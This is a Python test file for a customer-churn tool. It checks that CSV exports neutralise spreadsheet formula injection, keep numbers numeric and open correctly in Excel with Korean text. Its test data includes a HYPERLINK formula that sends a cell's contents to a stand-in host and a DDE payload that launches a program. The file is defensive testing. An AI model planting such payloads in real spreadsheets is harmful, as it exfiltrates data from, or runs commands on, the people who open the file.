"""CSV exports: text that a spreadsheet would run as a formula is escaped (OWASP), numbers stay
numbers, and the file is UTF-8 with a byte-order mark so Excel shows Korean."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest

from churnlens.playbook.export import export_actions
from churnlens.safe_csv import csv_bytes, escape_cell
from churnlens.warehouse import Warehouse

SRC = Path(__file__).resolve().parents[1] / "src" / "churnlens"
DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
BOM = b"\xef\xbb\xbf"


def read_cells(data: bytes) -> list[list[str]]:
    assert data.startswith(BOM)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("start", DANGEROUS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_export_escapes_product_names_and_reasons_starting_with_a_formula(tmp_path, start):
    product = f'{start}HYPERLINK("http://x.example/?"&A1,"click")'
    reason = f"{start}cmd|' /C calc'!A0"
    actions = pd.DataFrame(
        {
            "customer_id": ["c1", "c2"],
            "state": ["at_risk", "lapsing"],
            "action": ["winback_personal", "winback_personal"],
            "reason": [reason, "plain reason"],
            "reason_ko": ["이탈 위험 높음", f"{start}위험"],
            "routine_products": ["p1", "p2"],
            "routine_product_names": [product, "bread"],
            "expected_value": [-3.5, 12.25],
        }
    )
    with Warehouse(tmp_path / "w.duckdb") as wh:
        wh.write("actions", actions)
        assert export_actions(wh, "winback_personal", tmp_path / "en.csv") == 2
        assert export_actions(wh, "winback_personal", tmp_path / "ko.csv", lang="ko") == 2
    data = (tmp_path / "en.csv").read_bytes()
    rows = read_cells(data)
    assert rows[0] == ["customer_id", "state", "action", "reason", "routine_product_names", "expected_value"]
    by_id = {r[0]: r for r in rows[1:]}
    # the expected-value order puts c2 (12.25) before c1 (-3.5)
    assert [r[0] for r in rows[1:]] == ["c2", "c1"]
    assert by_id["c1"][3] == "'" + reason and by_id["c1"][4] == "'" + product
    assert by_id["c2"][3] == "plain reason" and by_id["c2"][4] == "bread"
    # numbers stay numbers: the negative value is written as a number, not escaped
    assert by_id["c1"][5] == "-3.5" and by_id["c2"][5] == "12.25"
    assert pd.read_csv(tmp_path / "en.csv", encoding="utf-8-sig")["expected_value"].tolist() == [12.25, -3.5]
    ko = {r[0]: r for r in read_cells((tmp_path / "ko.csv").read_bytes())[1:]}
    assert ko["c1"][3] == "이탈 위험 높음" and ko["c2"][3] == f"'{start}위험"


def test_csv_bytes_starts_with_a_bom_and_korean_round_trips():
    df = pd.DataFrame({"고객": ["김민수", "=이영희"], "금액": [1200, -300], "비율": [0.5, -0.25]})
    data = csv_bytes(df)
    assert data.startswith(BOM) and not data.startswith(BOM + BOM)
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
    assert back.columns.tolist() == ["고객", "금액", "비율"]
    assert back["고객"].tolist() == ["김민수", "'=이영희"]
    assert back["금액"].tolist() == [1200, -300] and back["비율"].tolist() == [0.5, -0.25]
    assert data.decode("utf-8-sig").splitlines()[2] == "'=이영희,-300,-0.25"


def test_only_text_is_escaped():
    assert [escape_cell(c + "1") for c in DANGEROUS] == ["'" + c + "1" for c in DANGEROUS]
    assert escape_cell(-1) == -1 and escape_cell(-0.5) == -0.5 and escape_cell(None) is None
    assert escape_cell("a=1") == "a=1" and escape_cell("") == "" and escape_cell(" =1") == " =1"
    mixed = pd.DataFrame(
        {"x": pd.Series(["-2", -2, None], dtype=object), "c": pd.Categorical(["@a", "b", "@a"])}
    )
    assert read_cells(csv_bytes(mixed)) == [["x", "c"], ["'-2", "'@a"], ["-2", "b"], ["", "'@a"]]


def test_every_csv_churnlens_writes_goes_through_safe_csv():
    """The CLI and the dashboard write CSVs only through `churnlens.safe_csv` (the synthetic shop
    generator writes native shop files, which are inputs, not exports)."""
    offenders = []
    for path in SRC.rglob("*.py"):
        rel = path.relative_to(SRC).as_posix()
        if rel == "safe_csv.py" or rel.startswith("sources/"):
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", text):
            offenders.append(rel)
        if "download_button(" in text and "csv_bytes(" not in text:
            offenders.append(rel)
    assert offenders == []
